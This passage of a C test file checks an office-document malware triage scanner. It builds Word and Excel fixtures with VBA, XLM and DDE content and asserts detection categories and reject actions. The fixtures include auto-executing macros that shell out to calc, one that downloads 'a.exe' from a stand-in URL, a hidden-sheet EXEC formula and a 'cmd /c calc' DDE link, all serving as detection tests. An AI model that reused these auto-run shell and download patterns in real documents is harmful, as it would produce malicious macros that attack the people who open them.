/*
 * test_office_scenarios.c - Office documents of the kinds the corpus draws
 * from (oletools, POI/Tika, ClamAV, MacroMilter test files), built here and
 * scanned through the whole engine with the shipped rules: categories and
 * the default-policy action must follow the corpus labelling conventions.
 */
#include "config.h"

#include <string.h>

#include "testhelp.h"
#include "olefix.h"
#include "ooxml_fixture.h"

static triage_scanner *scanner;
static triage_config *policy;
/* Failed expectations of the running test (all are reported, then it fails). */
static int nfail;

/* End of a test: fail when any expectation failed. */
static void
check_done(void)
{
	int n = nfail;
	nfail = 0;
	if (n)
		fail_msg("%d expectation(s) failed", n);
}

static int
setup(void **state)
{
	(void)state;
	triage_engine *e = th_engine(NULL, NULL);
	scanner = triage_scanner_new(e);
	triage_engine_unref(&e);
	policy = triage_config_new();
	return scanner ? 0 : -1;
}

static int
teardown(void **state)
{
	(void)state;
	triage_scanner_free(&scanner);
	triage_config_free(&policy);
	return 0;
}

/*
 * Check a report: every category in `must` (comma list) present, none of
 * `mustnot`, and the inbound action within [min, max].  Frees the report.
 */
static void
expect(triage_report *r, const char *what, const char *must, const char *mustnot,
       triage_action min, triage_action max)
{
	GString *why = g_string_new(NULL);
	char **m = g_strsplit(must ? must : "", ",", -1);
	for (char **c = m; *c; c++)
		if (**c && !th_has_category(r, *c))
			g_string_append_printf(why, " missing %s;", *c);
	g_strfreev(m);
	m = g_strsplit(mustnot ? mustnot : "", ",", -1);
	for (char **c = m; *c; c++)
		if (**c && th_has_category(r, *c))
			g_string_append_printf(why, " unexpected %s;", *c);
	g_strfreev(m);
	triage_action act = triage_config_action(policy, TRIAGE_INBOUND,
						 triage_report_severity(r));
	if (triage_action_rank(act) < triage_action_rank(min) ||
	    triage_action_rank(act) > triage_action_rank(max))
		g_string_append_printf(why, " action %s outside %s..%s;",
				       triage_action_name(act), triage_action_name(min),
				       triage_action_name(max));
	if (why->len) {
		if (getenv("SCENARIO_DUMP"))
			th_dump(r);
		print_error("FAILED %s:%s\n", what, why->str);
		nfail++;
	}
	g_string_free(why, TRUE);
	triage_report_free(&r);
}

/* Scan bytes as one raw file and check. */
static void
expect_raw(const char *name, const void *data, size_t len, const char *must,
	   const char *mustnot, triage_action min, triage_action max)
{
	triage_report *r = th_scan_raw(scanner, name, data, len);
	expect(r, name, must, mustnot, min, max);
}

#define A_ACCEPT TRIAGE_ACTION_ACCEPT
#define A_TAG TRIAGE_ACTION_TAG
#define A_BANNER TRIAGE_ACTION_BANNER
#define A_QUAR TRIAGE_ACTION_QUARANTINE
#define A_REJECT TRIAGE_ACTION_REJECT

/* ---- fixtures: OLE documents with VBA ---------------------------------- */

/* Minimal BIFF8 workbook: globals with one visible worksheet. */
static void
le16(GByteArray *a, unsigned v)
{
	guint8 b[2] = {v & 0xFF, (v >> 8) & 0xFF};
	g_byte_array_append(a, b, 2);
}

static void
le32(GByteArray *a, uint32_t v)
{
	guint8 b[4] = {v & 0xFF, (v >> 8) & 0xFF, (v >> 16) & 0xFF, v >> 24};
	g_byte_array_append(a, b, 4);
}

static void
biff_rec(GByteArray *wb, unsigned type, const void *body, size_t n)
{
	le16(wb, type);
	le16(wb, (unsigned)n);
	if (n)
		g_byte_array_append(wb, body, (guint)n);
}

/* BOF of version `ver` (0x0600 BIFF8, 0x0500 BIFF5) and substream type dt. */
static void
biff_bof(GByteArray *wb, unsigned ver, unsigned dt)
{
	GByteArray *b = g_byte_array_new();
	le16(b, ver);
	le16(b, dt);
	le16(b, 0x0DBB);
	le16(b, 0x07CC);
	if (ver == 0x0600) {
		le32(b, 0);
		le32(b, 0x0206);
	}
	biff_rec(wb, 0x0809, b->data, b->len);
	g_byte_array_free(b, TRUE);
}

/* One sheet of a fixture workbook. */
typedef struct bsheet {
	const char *name;
	unsigned state;  /* 0 visible, 1 hidden, 2 very hidden */
	unsigned type;   /* 0 worksheet, 1 macro sheet, 2 chart */
} bsheet;

/*
 * A workbook stream (BIFF8 or BIFF5) with these sheets and names; each
 * name is built-in (index in the low byte, flag 0x100) or user text.
 */
static GByteArray *
biff_workbook(unsigned ver, const bsheet *sh, size_t nsh, const char *const *names,
	      size_t nnames, const int *builtin, const GByteArray *extra)
{
	bool b8 = ver == 0x0600;
	GByteArray *wb = g_byte_array_new();
	size_t at[8];
	biff_bof(wb, ver, 0x0005);
	for (size_t i = 0; i < nsh; i++) {
		GByteArray *b = g_byte_array_new();
		le32(b, 0);
		guint8 h[2] = {(guint8)sh[i].state, (guint8)sh[i].type};
		g_byte_array_append(b, h, 2);
		guint8 cch = (guint8)strlen(sh[i].name);
		g_byte_array_append(b, &cch, 1);
		if (b8) {
			guint8 z = 0;
			g_byte_array_append(b, &z, 1);
		}
		g_byte_array_append(b, (const guint8 *)sh[i].name, cch);
		at[i] = wb->len + 4;
		biff_rec(wb, 0x0085, b->data, b->len);
		g_byte_array_free(b, TRUE);
	}
	for (size_t i = 0; i < nnames; i++) {
		GByteArray *b = g_byte_array_new();
		bool bi = builtin && builtin[i] >= 0;
		le16(b, bi ? 0x0020 : 0);
		guint8 k = 0;
		g_byte_array_append(b, &k, 1);
		guint8 cch = bi ? 1 : (guint8)strlen(names[i]);
		g_byte_array_append(b, &cch, 1);
		le16(b, 0);     /* cce */
		le16(b, 0);
		le16(b, 1);     /* itab */
		guint8 z4[4] = {0};
		g_byte_array_append(b, z4, 4);
		if (b8) {
			guint8 fl = 0;
			g_byte_array_append(b, &fl, 1);
		}
		if (bi) {
			guint8 id = (guint8)builtin[i];
			g_byte_array_append(b, &id, 1);
		} else {
			g_byte_array_append(b, (const guint8 *)names[i], cch);
		}
		biff_rec(wb, 0x0018, b->data, b->len);
		g_byte_array_free(b, TRUE);
	}
	if (extra)
		g_byte_array_append(wb, extra->data, extra->len);
	biff_rec(wb, 0x000A, NULL, 0);
	for (size_t i = 0; i < nsh; i++) {
		uint32_t pos = wb->len;
		memcpy(wb->data + at[i], &(guint32){GUINT32_TO_LE(pos)}, 4);
		unsigned dt = sh[i].type == 1 ? 0x0040 : sh[i].type == 2 ? 0x0020 : 0x0010;
		biff_bof(wb, ver, dt);
		biff_rec(wb, 0x000A, NULL, 0);
	}
	return wb;
}

/* Kinds of OLE host for a VBA project. */
typedef enum host { HOST_WORD, HOST_EXCEL } host;

/* A .doc / .xls with a VBA project of these modules. */
static GByteArray *
ole_with_vba(host h, const olefix_module *mods, size_t n)
{
	olefix f;
	olefix_begin(&f);
	GsfOutfile *proj;
	if (h == HOST_WORD) {
		static const unsigned char fib[64] = {0xEC, 0xA5, 0xC1, 0x00};
		olefix_stream(f.root, "WordDocument", fib, sizeof fib);
		proj = olefix_storage(f.root, "Macros");
	} else {
		bsheet sh[] = {{"Sheet1", 0, 0}};
		GByteArray *wb = biff_workbook(0x0600, sh, 1, NULL, 0, NULL, NULL);
		olefix_stream(f.root, "Workbook", wb->data, wb->len);
		g_byte_array_free(wb, TRUE);
		proj = olefix_storage(f.root, "_VBA_PROJECT_CUR");
	}
	olefix_vba_project(proj, mods, n, true);
	olefix_close(proj);
	return olefix_end(&f);
}

/* A bare vbaProject.bin (project at the root). */
static GByteArray *
vba_bin(const olefix_module *mods, size_t n)
{
	olefix f;
	olefix_begin(&f);
	olefix_vba_project(f.root, mods, n, true);
	return olefix_end(&f);
}

/* ---- fixtures: OOXML ----------------------------------------------------- */

#define XML_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
#define CT_HEAD XML_HEAD "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>" \
	"<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
#define RELS_HEAD XML_HEAD "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
#define RELS_END "</Relationships>"
#define REL_NS "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define MSREL_NS "http://schemas.microsoft.com/office/2006/relationships/"
#define W_NS "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" " \
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
#define DOC_BODY(x) XML_HEAD "<w:document " W_NS "><w:body>" x "</w:body></w:document>"
#define DOC_PLAIN DOC_BODY("<w:p><w:r><w:t>Quarterly figures</w:t></w:r></w:p>")

/* Zip these parts to bytes. */
static GBytes *
zip_of(const fx_part *parts, size_t n)
{
	triage_blob *b = fx_zip(parts, n, NULL);
	GBytes *g = g_bytes_new(triage_blob_data(b), triage_blob_size(b));
	triage_blob_unref(&b);
	return g;
}

static void
expect_zip(const char *name, const fx_part *parts, size_t n, const char *must,
	   const char *mustnot, triage_action min, triage_action max)
{
	GBytes *g = zip_of(parts, n);
	gsize len;
	const void *d = g_bytes_get_data(g, &len);
	expect_raw(name, d, len, must, mustnot, min, max);
	g_bytes_unref(g);
}

/* A .docx: document body, document rels and optional settings rels. */
static void
expect_docx(const char *name, const char *doc, const char *doc_rels,
	    const char *settings_rels, const char *must, const char *mustnot,
	    triage_action min, triage_action max)
{
	fx_part parts[] = {
		{"[Content_Types].xml", CT_HEAD
		 "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
		 "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"word/document.xml\"/>" RELS_END, 0},
		{"word/document.xml", doc ? doc : DOC_PLAIN, 0},
		{"word/_rels/document.xml.rels", doc_rels ? doc_rels : RELS_HEAD RELS_END, 0},
		{"word/settings.xml", XML_HEAD "<w:settings " W_NS "><w:attachedTemplate r:id=\"rId1\"/></w:settings>", 0},
		{"word/_rels/settings.xml.rels", settings_rels ? settings_rels : RELS_HEAD RELS_END, 0},
	};
	expect_zip(name, parts, G_N_ELEMENTS(parts), must, mustnot, min, max);
}

/* ---- VBA ------------------------------------------------------------------ */

typedef struct vba_case {
	const char *what;
	host h;
	const char *module;      /* standard module name */
	bool document;
	const char *source;
	const char *must;
	const char *mustnot;
	triage_action min;
} vba_case;

static const vba_case vba_cases[] = {
	{"AutoOpen in a standard module", HOST_WORD, "NewMacros", false,
	 "Attribute VB_Name = \"NewMacros\"\r\nSub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"Auto_Open in Excel", HOST_EXCEL, "Module1", false,
	 "Sub Auto_Open()\r\n  Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run \"calc\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"Workbook_Open in ThisWorkbook", HOST_EXCEL, "ThisWorkbook", true,
	 "Private Sub Workbook_Open()\r\n  URLDownloadToFileA 0, \"http://x/a\", \"a.exe\", 0, 0\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"Document_Close with Kill", HOST_WORD, "ThisDocument", true,
	 "Private Sub Document_Close()\r\n  Kill \"C:\\temp\\x.txt\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"CommandButton1_Click", HOST_WORD, "ThisDocument", true,
	 "Private Sub CommandButton1_Click()\r\n  MsgBox \"hello\"\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	{"TextBox1_Change", HOST_EXCEL, "Sheet1", true,
	 "Private Sub TextBox1_Change()\r\n  Range(\"A1\").Value = TextBox1.Text\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	{"InkPicture1_Painted + Shell", HOST_WORD, "ThisDocument", true,
	 "Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Object)\r\n"
	 "  Shell \"cmd /c calc\", vbHide\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"Frame1_Layout", HOST_WORD, "ThisDocument", true,
	 "Private Sub Frame1_Layout()\r\n  Label1.Caption = \"x\"\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	{"Declare URLDownloadToFileA without autoexec", HOST_WORD, "Module1", false,
	 "Private Declare Function URLDownloadToFileA Lib \"urlmon\" (ByVal a As Long) As Long\r\n"
	 "Sub Fetch()\r\n  URLDownloadToFileA 0, \"u\", \"f\", 0, 0\r\nEnd Sub\r\n",
	 "macro-vba", "macro-vba-autoexec,macro-vba-suspicious", A_BANNER},
	{"ordinary formatting helper", HOST_WORD, "Formatting", false,
	 "Sub FormatTable()\r\n  Selection.Tables(1).Style = \"Grid Table 4\"\r\n"
	 "  Selection.Font.Bold = True\r\nEnd Sub\r\n",
	 "macro-vba", "macro-vba-autoexec,macro-vba-suspicious", A_BANNER},
	{"autoexec only: MsgBox in Document_Open", HOST_WORD, "ThisDocument", true,
	 "Private Sub Document_Open()\r\n  MsgBox \"Welcome\"\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	/* mraptor matches the whole text, comments and strings included. */
	{"Shell only in a comment, with Document_Open", HOST_WORD, "ThisDocument", true,
	 "Private Sub Document_Open()\r\n  ' do not Shell out here\r\n  MsgBox \"x\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	/* mraptor 0.60 has no Initialize trigger: a user form's setup is not autoexec. */
	{"UserForm_Initialize", HOST_EXCEL, "UserForm1", true,
	 "Private Sub UserForm_Initialize()\r\n  Call FillList\r\nEnd Sub\r\n",
	 "macro-vba", "macro-vba-autoexec,macro-vba-suspicious", A_BANNER},
	/* Python's \w is Unicode: a control named in Japanese still has its event. */
	{"non-ASCII control name _Click", HOST_WORD, "ThisDocument", true,
	 "Private Sub \xe5\xae\x9f\xe8\xa1\x8c_Click()\r\n  MsgBox \"x\"\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	{"non-ASCII module name", HOST_EXCEL, "Modul\xc3\xa9", false,
	 "Sub Auto_Open()\r\n  Shell \"calc\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"line continuation splits Open ... For Binary", HOST_WORD, "ThisDocument", true,
	 "Sub AutoClose()\r\n  Open \"C:\\x.bin\" _\r\n    For Binary As #1\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
};

/* Every VBA case in a .doc or .xls. */
static void
test_vba_ole(void **state)
{
	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(vba_cases); i++) {
		const vba_case *c = &vba_cases[i];
		olefix_module m = {c->module, c->source, NULL, 0, c->document};
		GByteArray *b = ole_with_vba(c->h, &m, 1);
		char *name = g_strdup_printf("%s (%s)", c->what,
					     c->h == HOST_WORD ? "doc" : "xls");
		triage_report *r = th_scan_raw(scanner, c->h == HOST_WORD ? "a.doc" : "a.xls",
					       b->data, b->len);
		expect(r, name, c->must, c->mustnot, c->min, A_REJECT);
		g_free(name);
		g_byte_array_free(b, TRUE);
	}
	check_done();
}

/* Package parts of a macro-enabled OOXML file of this flavour. */
typedef struct flavour {
	const char *ext;
	const char *main_part;
	const char *main_ct;
	const char *vba_part;
} flavour;

static const flavour flavours[] = {
	{"docm", "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "word/vbaProject.bin"},
	{"dotm", "word/document.xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "word/vbaProject.bin"},
	{"xlsm", "xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/vbaProject.bin"},
	{"xlam", "xl/workbook.xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml", "xl/vbaProject.bin"},
	{"pptm", "ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", "ppt/vbaProject.bin"},
	{"ppsm", "ppt/presentation.xml", "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml", "ppt/vbaProject.bin"},
	/* A renamed project part, found through its relationship and content type. */
	{"docm", "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "word/macros/projdata.dat"},
};

/* The same macro in every macro-enabled OOXML flavour. */
static void
test_vba_ooxml_flavours(void **state)
{
	(void)state;
	olefix_module m = {"ThisDocument",
			   "Private Sub Document_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
			   NULL, 0, true};
	GByteArray *bin = vba_bin(&m, 1);
	for (size_t i = 0; i < G_N_ELEMENTS(flavours); i++) {
		const flavour *f = &flavours[i];
		char *dir = g_path_get_dirname(f->main_part);
		char *base = g_path_get_basename(f->main_part);
		char *ct = g_strdup_printf(CT_HEAD "<Override PartName=\"/%s\" ContentType=\"%s\"/>"
					   "<Override PartName=\"/%s\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
					   f->main_part, f->main_ct, f->vba_part);
		char *root = g_strdup_printf(RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
					     "officeDocument\" Target=\"%s\"/>" RELS_END, f->main_part);
		char *vrel = g_strrstr(f->vba_part, "/") + 1;
		char *vpath = g_str_has_prefix(f->vba_part + strlen(dir) + 1, "macros/")
			? g_strdup(f->vba_part + strlen(dir) + 1) : g_strdup(vrel);
		char *rels_name = g_strdup_printf("%s/_rels/%s.rels", dir, base);
		char *rels = g_strdup_printf(RELS_HEAD "<Relationship Id=\"rId9\" Type=\"" MSREL_NS
					     "vbaProject\" Target=\"%s\"/>" RELS_END, vpath);
		fx_part parts[] = {
			{"[Content_Types].xml", ct, 0},
			{"_rels/.rels", root, 0},
			{f->main_part, XML_HEAD "<root/>", 0},
			{rels_name, rels, 0},
			{f->vba_part, (const char *)bin->data, bin->len},
		};
		char *name = g_strdup_printf("macro.%s (%s)", f->ext, f->vba_part);
		GBytes *g = zip_of(parts, G_N_ELEMENTS(parts));
		gsize len;
		const void *d = g_bytes_get_data(g, &len);
		triage_report *r = th_scan_raw(scanner, name, d, len);
		expect(r, name, "macro-vba-suspicious", NULL, A_REJECT, A_REJECT);
		g_bytes_unref(g);
		g_free(name);
		g_free(rels);
		g_free(rels_name);
		g_free(vpath);
		g_free(root);
		g_free(ct);
		g_free(base);
		g_free(dir);
	}
	g_byte_array_free(bin, TRUE);
	check_done();
}

/* A macro whose code is spread over two modules still counts as one project. */
static void
test_vba_two_modules(void **state)
{
	(void)state;
	olefix_module m[] = {
		{"ThisDocument", "Private Sub Document_Open()\r\n  Run1\r\nEnd Sub\r\n", NULL, 0, true},
		{"Helpers", "Sub Run1()\r\n  CreateObject(\"Shell.Application\").ShellExecute \"x\"\r\nEnd Sub\r\n",
		 NULL, 0, false},
	};
	GByteArray *b = ole_with_vba(HOST_WORD, m, 2);
	expect_raw("two.doc", b->data, b->len, "macro-vba-suspicious", NULL, A_REJECT, A_REJECT);
	g_byte_array_free(b, TRUE);
	check_done();
}

/* A 4096-byte raw (uncompressed) chunk: the flag bit clear, body copied as is. */
static void
test_vba_raw_chunk(void **state)
{
	(void)state;
	GString *src = g_string_new("Attribute VB_Name = \"Module1\"\r\n"
				    "Sub AutoOpen()\r\n  Shell \"calc\"\r\nEnd Sub\r\n");
	while (src->len < 4096)
		g_string_append_c(src, '\'');
	g_string_truncate(src, 4096);
	GByteArray *c = g_byte_array_new();
	guint8 sig = 1;
	g_byte_array_append(c, &sig, 1);
	le16(c, 0x3000 | 0x0FFF); /* size 4098 - 3, flag 0: raw */
	g_byte_array_append(c, (const guint8 *)src->str, 4096);
	/* The project's dir names Module1 at offset 0; its stream is this container. */
	olefix tmp;
	olefix_begin(&tmp);
	olefix_module m = {"Module1", "x", NULL, 0, false};
	olefix_vba_project(tmp.root, &m, 1, false);
	GByteArray *tb = olefix_end(&tmp);
	GsfInput *in = gsf_input_memory_new(tb->data, tb->len, FALSE);
	GsfInfile *inf = gsf_infile_msole_new(in, NULL);
	GsfInfile *tv = GSF_INFILE(gsf_infile_child_by_name(inf, "VBA"));
	GsfInput *dir = gsf_infile_child_by_name(tv, "dir");
	gsf_off_t dl = gsf_input_size(dir);
	const guint8 *dd = gsf_input_read(dir, (size_t)dl, NULL);

	olefix f;
	olefix_begin(&f);
	static const unsigned char fib[64] = {0xEC, 0xA5, 0xC1, 0x00};
	olefix_stream(f.root, "WordDocument", fib, sizeof fib);
	GsfOutfile *proj = olefix_storage(f.root, "Macros");
	GsfOutfile *vba = olefix_storage(proj, "VBA");
	olefix_stream(vba, "Module1", c->data, c->len);
	olefix_stream(vba, "dir", dd, (size_t)dl);
	guint8 vp[7] = {0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x00, 0x00};
	olefix_stream(vba, "_VBA_PROJECT", vp, sizeof vp);
	olefix_close(vba);
	olefix_stream(proj, "PROJECT", "Module=Module1\r\n", 16);
	olefix_close(proj);
	GByteArray *doc = olefix_end(&f);
	g_object_unref(dir);
	g_object_unref(tv);
	g_object_unref(inf);
	g_object_unref(in);
	g_byte_array_free(tb, TRUE);
	expect_raw("raw.doc", doc->data, doc->len, "macro-vba-suspicious", NULL, A_REJECT, A_REJECT);
	g_byte_array_free(doc, TRUE);
	g_byte_array_free(c, TRUE);
	g_string_free(src, TRUE);
	check_done();
}

/* MODULEOFFSET past the stream or into the p-code: the source is still read. */
static void
test_vba_bad_offset(void **state)
{
	(void)state;
	unsigned char pcode[64];
	for (size_t i = 0; i < sizeof pcode; i++)
		pcode[i] = (unsigned char)(0x80 + i);
	olefix_module m = {"ThisDocument",
			   "Attribute VB_Name = \"ThisDocument\"\r\n"
			   "Private Sub Document_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
			   pcode, sizeof pcode, true};
	const uint32_t offsets[] = {0x7FFFFFF0u, 5, 0};
	for (size_t i = 0; i < G_N_ELEMENTS(offsets); i++) {
		olefix f;
		olefix_begin(&f);
		static const unsigned char fib[64] = {0xEC, 0xA5, 0xC1, 0x00};
		olefix_stream(f.root, "WordDocument", fib, sizeof fib);
		GsfOutfile *proj = olefix_storage(f.root, "Macros");
		olefix_vba_project_offsets(proj, &m, 1, true, &offsets[i]);
		olefix_close(proj);
		GByteArray *doc = olefix_end(&f);
		char *name = g_strdup_printf("offset %u", offsets[i]);
		triage_report *r = th_scan_raw(scanner, "off.doc", doc->data, doc->len);
		expect(r, name, "macro-vba-suspicious", NULL, A_REJECT, A_REJECT);
		g_free(name);
		g_byte_array_free(doc, TRUE);
	}
	check_done();
}

/* ---- XLM ------------------------------------------------------------------ */

/* One BIFF workbook in an OLE file (stream "Workbook", or "Book" for BIFF5). */
static GByteArray *
xls_of(GByteArray *wb, const char *stream)
{
	olefix f;
	olefix_begin(&f);
	olefix_stream(f.root, stream, wb->data, wb->len);
	return olefix_end(&f);
}

static void
expect_xls(const char *what, unsigned ver, const bsheet *sh, size_t nsh,
	   const char *const *names, size_t nn, const int *bi, const char *must,
	   const char *mustnot, triage_action min, triage_action max)
{
	GByteArray *wb = biff_workbook(ver, sh, nsh, names, nn, bi, NULL);
	GByteArray *x = xls_of(wb, ver == 0x0600 ? "Workbook" : "Book");
	triage_report *r = th_scan_raw(scanner, "book.xls", x->data, x->len);
	expect(r, what, must, mustnot, min, max);
	g_byte_array_free(x, TRUE);
	g_byte_array_free(wb, TRUE);
}

static void
test_xlm_biff(void **state)
{
	(void)state;
	bsheet vis[] = {{"Sheet1", 0, 0}, {"Macro1", 0, 1}};
	bsheet hid[] = {{"Sheet1", 0, 0}, {"Macro1", 1, 1}};
	bsheet vhid[] = {{"Sheet1", 0, 0}, {"Macro1", 2, 1}};
	bsheet chart[] = {{"Sheet1", 0, 0}, {"Chart1", 2, 2}, {"Hidden", 1, 0}};
	const char *ao[] = {"Auto_Open"};
	int bi1[] = {1};
	int user[] = {-1};
	const char *lower[] = {"auto_open"};
	const char *ao1[] = {"Auto_Open1"};

	expect_xls("visible macro sheet", 0x0600, vis, 2, ao, 1, bi1,
		   "macro-xlm", "macro-xlm-hidden", A_QUAR, A_REJECT);
	expect_xls("hidden macro sheet", 0x0600, hid, 2, ao, 1, bi1,
		   "macro-xlm-hidden", NULL, A_REJECT, A_REJECT);
	expect_xls("very hidden macro sheet", 0x0600, vhid, 2, ao, 1, bi1,
		   "macro-xlm-hidden", NULL, A_REJECT, A_REJECT);
	expect_xls("user name auto_open", 0x0600, vis, 2, lower, 1, user,
		   "macro-xlm", NULL, A_QUAR, A_REJECT);
	expect_xls("user name Auto_Open1", 0x0600, vis, 2, ao1, 1, user,
		   "macro-xlm", NULL, A_QUAR, A_REJECT);
	expect_xls("Excel 95 (BIFF5) macro sheet", 0x0500, vis, 2, ao, 1, bi1,
		   "macro-xlm", "macro-xlm-hidden", A_QUAR, A_REJECT);
	expect_xls("Excel 95 (BIFF5) very hidden macro sheet", 0x0500, vhid, 2, NULL, 0, NULL,
		   "macro-xlm-hidden", NULL, A_REJECT, A_REJECT);
	/* A hidden chart and a hidden worksheet are no macros (POI TwoSheetsOneHidden). */
	expect_xls("hidden chart and worksheet", 0x0600, chart, 3, NULL, 0, NULL,
		   NULL, "macro-xlm,macro-xlm-hidden,corrupt", A_ACCEPT, A_TAG);
	check_done();
}

/* SupBook records: a DDE link (cmd\x03/c calc) and an external workbook. */
static void
test_dde_xls(void **state)
{
	(void)state;
	bsheet sh[] = {{"Sheet1", 0, 0}};
	static const char dde_path[] = "cmd\x03/c calc";
	static const char ext_path[] = "\x01\x01\x40" "C:\\Budget\\Book2.xls";
	const struct { const char *path; size_t len; unsigned ctab; bool dde; } cases[] = {
		{dde_path, sizeof dde_path - 1, 0, true},
		{ext_path, sizeof ext_path - 1, 1, false},
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		GByteArray *sb = g_byte_array_new();
		le16(sb, cases[i].ctab);
		le16(sb, (unsigned)cases[i].len);
		guint8 hb = 0;
		g_byte_array_append(sb, &hb, 1);
		g_byte_array_append(sb, (const guint8 *)cases[i].path, (guint)cases[i].len);
		if (cases[i].ctab) {
			le16(sb, 6);
			g_byte_array_append(sb, &hb, 1);
			g_byte_array_append(sb, (const guint8 *)"Sheet1", 6);
		}
		GByteArray *extra = g_byte_array_new();
		biff_rec(extra, 0x01AE, sb->data, sb->len);
		GByteArray *wb = biff_workbook(0x0600, sh, 1, NULL, 0, NULL, extra);
		GByteArray *x = xls_of(wb, "Workbook");
		if (cases[i].dde)
			expect_raw("dde.xls", x->data, x->len, "office-dde", NULL, A_QUAR, A_REJECT);
		else
			expect_raw("extbook.xls", x->data, x->len, NULL, "office-dde", A_ACCEPT, A_TAG);
		g_byte_array_free(x, TRUE);
		g_byte_array_free(wb, TRUE);
		g_byte_array_free(extra, TRUE);
		g_byte_array_free(sb, TRUE);
	}
	check_done();
}

#define WB_NS "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" " \
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""

/* An xlsm/xltm with a macro sheet in state `state` ("" for visible). */
static void
expect_xlsx_macrosheet(const char *what, const char *ext, const char *state_attr,
		       const char *must, const char *mustnot, triage_action min)
{
	char *wb = g_strdup_printf(XML_HEAD "<workbook " WB_NS "><sheets>"
		"<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>"
		"<sheet name=\"Macro1\" sheetId=\"2\" %s r:id=\"rId2\"/></sheets>"
		"<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
		"</definedNames></workbook>", state_attr);
	fx_part parts[] = {
		{"[Content_Types].xml", CT_HEAD
		 "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
		 "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
		 "<Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"xl/workbook.xml\"/>" RELS_END, 0},
		{"xl/workbook.xml", wb, 0},
		{"xl/_rels/workbook.xml.rels", RELS_HEAD
		 "<Relationship Id=\"rId1\" Type=\"" REL_NS "worksheet\" Target=\"worksheets/sheet1.xml\"/>"
		 "<Relationship Id=\"rId2\" Type=\"" MSREL_NS "xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/>"
		 RELS_END, 0},
		{"xl/worksheets/sheet1.xml", XML_HEAD "<worksheet " WB_NS "><sheetData/></worksheet>", 0},
		{"xl/macrosheets/sheet1.xml", XML_HEAD "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" "
		 WB_NS "><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row>"
		 "<row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>", 0},
	};
	char *name = g_strdup_printf("book.%s", ext);
	GBytes *g = zip_of(parts, G_N_ELEMENTS(parts));
	gsize len;
	const void *d = g_bytes_get_data(g, &len);
	triage_report *r = th_scan_raw(scanner, name, d, len);
	expect(r, what, must, mustnot, min, A_REJECT);
	g_bytes_unref(g);
	g_free(name);
	g_free(wb);
}

static void
test_xlm_ooxml(void **state)
{
	(void)state;
	expect_xlsx_macrosheet("xlsm visible", "xlsm", "", "macro-xlm", "macro-xlm-hidden", A_QUAR);
